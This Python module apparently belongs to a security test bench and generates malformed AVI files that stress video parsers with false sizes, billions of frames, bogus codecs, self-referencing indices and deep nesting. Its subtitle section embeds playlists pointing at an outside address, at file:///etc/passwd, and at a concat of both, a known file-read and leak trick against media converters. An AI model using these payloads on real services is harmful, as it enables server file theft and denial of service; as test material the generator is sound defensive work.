"""AVI whose heads, lists and indices lie, loop, nest or carry something else."""

from collections.abc import Iterator

from bench.hostile.writing import chunk, jpeg_of_size, le32, listed

BILLION = 10**9
DEPTH = 20_000


def head(frames: int = 5, width: int = 160, height: int = 96, streams: int = 1, micros: int = 200_000) -> bytes:
    return chunk(b"avih", le32(micros, 0, 0, 0x10, frames, 0, streams, 0, width, height, 0, 0, 0, 0))


def stream(
    width: int = 160, height: int = 96, *, codec: bytes = b"MJPG", scale: int = 1, rate: int = 5, length: int = 5,
    start: int = 0, bits: int = 24, more: bytes = b"",
) -> bytes:  # fmt: skip
    told = b"vids" + codec + le32(0, 0, 0, scale, rate, start, length, 0, -1, 0, 0, 0)
    shape = le32(40, width, height) + b"\1\0" + bits.to_bytes(2, "little") + codec + le32(0, 0, 0, 0, 0)
    return listed(b"strl", chunk(b"strh", told), chunk(b"strf", shape), more)


def file(heads: bytes, streams: bytes, *rest: bytes) -> bytes:
    content = b"AVI " + listed(b"hdrl", heads, streams) + b"".join(rest)
    return b"RIFF" + le32(len(content)) + content


def avis(frame: bytes, address: str) -> Iterator[tuple[str, bytes]]:
    """`frame` is one sound JPEG of 160 by 96 points."""
    movie = listed(b"movi", chunk(b"00dc", frame) * 5)
    yield "a head alone", b"RIFF" + le32(4) + b"AVI "
    yield "no pictures", file(head(), stream())
    yield "no streams", file(head(streams=0), b"", movie)
    yield "a billion frames by the head", file(head(BILLION), stream(), movie)
    yield "a billion frames by the stream", file(head(), stream(length=BILLION), movie)
    yield "four billion frames by both", file(head(-1), stream(length=-1), movie)
    for scale, rate in ((0, 5), (1, 0), (0, 0), (-1, 1), (1, -1), (BILLION, 1), (1, BILLION)):
        yield f"{rate} frames in {scale} seconds", file(head(micros=0), stream(scale=scale, rate=rate), movie)
    yield "a start at the end of time", file(head(), stream(start=-1), movie)
    for width, height in ((65_500, 65_500), (-160, -96), (160, -96), (0, 0), (2**31 - 1, 2**31 - 1), (65_500, 1)):
        yield f"{width} by {height} points", file(head(5, width, height), stream(width, height), movie)
        raw = stream(width, height, codec=b"\0\0\0\0")
        yield f"{width} by {height} points of no codec", file(head(5, width, height), raw, movie)
    huge = listed(b"movi", chunk(b"00dc", jpeg_of_size(frame, 65_500, 65_500)) * 5)
    yield "65,500 points each way by the pictures", file(head(5, 65_500, 65_500), stream(65_500, 65_500), huge)
    for bits in (0, 1, 7, 255, 65_535):
        yield f"{bits} bits a point", file(head(), stream(codec=b"\0\0\0\0", bits=bits), movie)
    for codec in (
        b"XXXX",
        b"\xff" * 4,
        b"H264",
        b"cvid",
        b"MPNG",
        b"tscc",
        b"ZLIB",
        b"FFV1",
        b"MSVC",
        b"IV50",
        b"VP90",
        b"dvsd",
    ):
        yield f"codec {codec!r}", file(head(), stream(codec=codec), movie)
    for claimed in (0, 1, 2**31 - 1, 2**31, 2**32 - 1):
        yield (
            f"pictures of size {claimed}",
            file(head(), stream(), listed(b"movi", chunk(b"00dc", frame), claimed=claimed)),
        )
        yield (
            f"a picture of size {claimed}",
            file(head(), stream(), listed(b"movi", chunk(b"00dc", frame, claimed) * 5)),
        )
    yield "a hundred thousand empty pictures", file(head(), stream(), listed(b"movi", chunk(b"00dc", b"") * 100_000))
    yield "fifty thousand cut pictures", file(head(), stream(), listed(b"movi", chunk(b"00dc", frame[:40]) * 50_000))
    yield "pictures of foreign streams", file(head(), stream(), listed(b"movi", chunk(b"99dc", frame) * 500))
    yield "a hundred and fifty streams", file(head(streams=150), stream() * 150, movie)
    yield "lists within lists", file(head(), _nested(DEPTH), movie)
    yield "two hundred films in one", file(head(), stream(), movie) * 200
    yield from indices(movie)
    yield from subtitles(movie, address)


def indices(movie: bytes) -> Iterator[tuple[str, bytes]]:
    entry = b"00dc" + le32(0x10, 4, 100)
    yield "a million entries for one place", file(head(), stream(), movie, chunk(b"idx1", entry * 1_000_000))
    yield "places behind the end", file(head(), stream(), movie, chunk(b"idx1", (b"00dc" + le32(0x10, -1, -1)) * 50))
    yield "an index of four gigabytes", file(head(), stream(), movie, chunk(b"idx1", entry * 5, 2**32 - 1))
    itself = b"\4\0\0\0" + le32(1000) + b"00dc" + le32(0, 0, 0) + (le32(240, 0) + le32(100, 5)) * 1000
    yield "an index of indices that is itself", file(head(), stream(more=chunk(b"indx", itself)), movie)
    many = b"\4\0\0\0" + le32(BILLION) + b"00dc" + le32(0, 0, 0)
    yield "an index of a billion indices", file(head(), stream(more=chunk(b"indx", many)), movie)
    endless = b"\2\0\0\1" + le32(2**31 - 1) + b"00dc" + le32(0, 0, 0) + le32(0, 100) * 50
    yield "an index of two billion places", file(head(), stream(more=chunk(b"indx", endless)), movie)


def subtitles(movie: bytes, address: str) -> Iterator[tuple[str, bytes]]:
    """A stream of words that is a file of its own: a playlist in it was once followed."""
    web = f"http://{address}"
    words = listed(b"strl", chunk(b"strh", b"txts" + bytes(52)), chunk(b"strf", b""))
    for name, text in (
        ("of the web", f"#EXTM3U\n#EXTINF:1,\n{web}/a.ts\n"),
        ("of the machine", "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"),
        ("of both", f"#EXTM3U\n#EXTINF:1,\nconcat:{web}/a|file:///etc/passwd\n"),
        ("without an end", "1\n00:00:00,000 --> 00:00:09,000\n" + "a" * 200_000),
    ):
        carried = b"GAB2\0\2\0" + le32(2) + b"a\0" + b"\4\0" + le32(len(text)) + text.encode()
        pictured = listed(b"movi", chunk(b"01tx", carried), movie[12:])
        yield f"words {name}", file(head(streams=2), stream() + words, pictured)


def _nested(depth: int) -> bytes:
    return b"".join(b"LIST" + le32(12 * (depth - level) - 8) + b"strl" for level in range(depth))
